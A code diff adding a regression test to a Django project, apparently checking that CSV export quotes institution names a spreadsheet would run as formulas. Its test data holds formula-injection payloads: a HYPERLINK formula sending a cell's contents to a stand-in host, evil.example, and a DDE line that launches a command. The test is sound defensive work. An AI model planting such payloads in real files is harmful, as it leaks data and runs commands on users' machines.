@@ -12,6 +12,9 @@ import pytest
 from django.core.management import call_command
 from django.db import connection
 
+from catalog.models import Source
+from tests.factories import InstitutionFactory
+
 ROOT = Path(__file__).resolve().parents[2]
 
 pytestmark = pytest.mark.django_db
@@ -47,12 +50,25 @@ def fresh_database_url(tmp_path):
         admin.close()
 
 
+# Names a spreadsheet would run as formulas (issue 9): the CSV quotes them, the import takes the quote off.
+HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Click me")', "+1+cmd|' /C calc'!A0", "-2+3 University",
+                 "@SUM(1+9) College", "'=Genuinely quoted University", "''+Twice quoted Institute"]
+
+
+@pytest.fixture
+def hostile_institutions():
+    source = Source.objects.first()
+    for name in HOSTILE_NAMES:
+        InstitutionFactory(name=name).sources.add(source)
+
+
 def files_of(directory: Path) -> dict[str, bytes]:
     return {path.name: path.read_bytes() for path in sorted(directory.iterdir())}
 
 
 @pytest.mark.parametrize("extension", ["csv", "json"])
-def test_export_import_into_a_new_database_export_is_byte_identical(tmp_path, fresh_database_url, extension):
+def test_export_import_into_a_new_database_export_is_byte_identical(tmp_path, fresh_database_url, extension,
+                                                                   hostile_institutions):
     call_command("export_registry", str(tmp_path / "first"), stdout=io.StringIO())
     first = files_of(tmp_path / "first")
 
@@ -65,3 +81,5 @@ def test_export_import_into_a_new_database_export_is_byte_identical(tmp_path, fr
     # Every kind came across, activities and institution names included.
     assert b"csu-delegation-korea-japan-2019" in first["activities.csv"]
     assert b"former" in first["institution_names.csv"]
+    assert b"\"'=HYPERLINK(" in first["institutions.csv"]
+    assert b"'''+Twice quoted Institute" in first["institutions.csv"]
